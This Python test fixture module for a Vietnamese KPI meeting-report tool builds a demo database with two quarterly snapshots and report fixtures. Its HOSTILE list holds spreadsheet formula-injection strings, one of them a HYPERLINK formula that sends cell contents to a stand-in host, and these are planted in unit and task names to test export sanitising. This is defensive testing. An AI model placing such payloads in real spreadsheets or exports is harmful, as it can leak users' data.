"""A demo database with two snapshots of the largest seed plan, and reports built from it.

LARGEST is Sở Y tế Đồng Nai 2023 (39 targets, 54 tasks). The first snapshot freezes Quý II, the second
Quý III after a planted change, so every report has a "changes since the last meeting" part.
"""
from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from kpi import db
from tests import backend
from kpi.cycle import demo
from kpi.meetings import snapshots
from kpi.meetings.export import build_report
from kpi.plans import io
from kpi.db.connection import transaction
from tests.conftest import ARTIFACTS
from tests.helpers import scope

LARGEST = "syt-dong-nai-2023"
EXPORTS = ARTIFACTS / "exports"

# docs/reliability-catalogue.md D1/D2: text that spreadsheet programs would run as formulas, and a control
# character that breaks python-pptx's chart XML.
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
           "\n=1+1", "a;=1+1", 'a,"=1+1', "Phòng\x0bTổ chức"]


@pytest.fixture(scope="session")
def demo_db_file(seeded_db_file, tmp_path_factory) -> Path:
    """Bundled plans plus the illustrative reports, with snapshot 1 (Quý II) and snapshot 2 (Quý III)."""
    path = backend.copy_database(seeded_db_file, tmp_path_factory.mktemp("export"), "demo.duckdb")
    con = io.open_database(path)
    demo.load(con)
    snapshots.create(con, scope(LARGEST, "2023-Q2"), name="Họp giao ban Quý II/2023", by="Nguyễn Văn A", now=dt.datetime(2023, 7, 10, 9, 0))
    snapshots.create(con, scope(LARGEST, "2023-Q3"), name="Họp giao ban Quý III/2023", by="Trần Thị B", note="Số liệu chốt trước cuộc họp", now=dt.datetime(2023, 10, 12, 8, 30))
    con.close()
    return path


@pytest.fixture
def demo_db(demo_db_file, tmp_path):
    con = db.connect(backend.copy_database(demo_db_file, tmp_path, "demo.duckdb"))
    yield con
    con.close()


@pytest.fixture(scope="session")
def report(demo_db_file, tmp_path_factory):
    """The Quý III snapshot's report (changes measured from the Quý II snapshot)."""
    con = db.connect(backend.copy_database(demo_db_file, tmp_path_factory.mktemp("report"), "demo.duckdb"))
    try:
        yield build_report(con, snapshot_id=2, now=dt.datetime(2023, 10, 12, 9, 0))
    finally:
        con.close()


@pytest.fixture
def hostile_report(demo_db):
    """Current figures of the largest plan after unit names and target/task texts were made hostile."""
    units = [r[0] for r in demo_db.execute(
        "SELECT u.code FROM unit u JOIN plan p ON p.org_id = u.org_id WHERE p.id = ? ORDER BY u.code",
        [LARGEST]).fetchall()]
    targets = [r[0] for r in demo_db.execute("SELECT code FROM target WHERE plan_id = ? ORDER BY seq",
                                             [LARGEST]).fetchall()]
    tasks = [r[0] for r in demo_db.execute("SELECT code FROM task WHERE plan_id = ? ORDER BY seq",
                                           [LARGEST]).fetchall()]
    with transaction(demo_db):  # as every product write: figures remembered per data version see the change
        for code, name in zip(units, HOSTILE):
            demo_db.execute("UPDATE unit SET name = ? WHERE code = ? AND org_id = 'syt-dong-nai'", [name, code])
        for code, value in zip(targets, HOSTILE):
            demo_db.execute("UPDATE target SET text = ? WHERE plan_id = ? AND code = ?", [value, LARGEST, code])
        for code, value in zip(tasks, HOSTILE):
            demo_db.execute("UPDATE task SET text = ? WHERE plan_id = ? AND code = ?", [value, LARGEST, code])
        demo_db.execute("UPDATE plan_area SET heading = ? WHERE plan_id = ? AND area_code = 'the_che'",
                        [HOSTILE[0], LARGEST])
    return build_report(demo_db, now=dt.datetime(2023, 10, 12, 9, 0), scope=scope(LARGEST, "2023-Q3"))


@pytest.fixture(scope="session")
def exports_dir() -> Path:
    """Rendered pages of the exports, kept for a person to look at."""
    EXPORTS.mkdir(parents=True, exist_ok=True)
    return EXPORTS


def with_overdue(report, count: int = 1):
    """The report with `count` overdue tasks planted in its overdue table. Since ongoing tasks are due at the
    year's end (docs/deadlines.md), the illustrative Quý III of Đồng Nai 2023 has none of its own."""
    import dataclasses

    import pandas as pd
    rows = [{"code": f"NV{i:02d}", "text": "Rà soát, đơn giản hóa thủ tục hành chính nội bộ " * (1 + i % 6),
             "deadline": "Quý III/2023", "due": dt.date(2023, 9, 30),
             "lead": "Văn phòng Sở, Chi cục An toàn vệ sinh thực phẩm, Phòng Kế hoạch - Tài chính, Thanh tra Sở"}
            for i in range(1, count + 1)]
    return dataclasses.replace(report, overdue=dataclasses.replace(report.overdue, frame=pd.DataFrame(rows)))
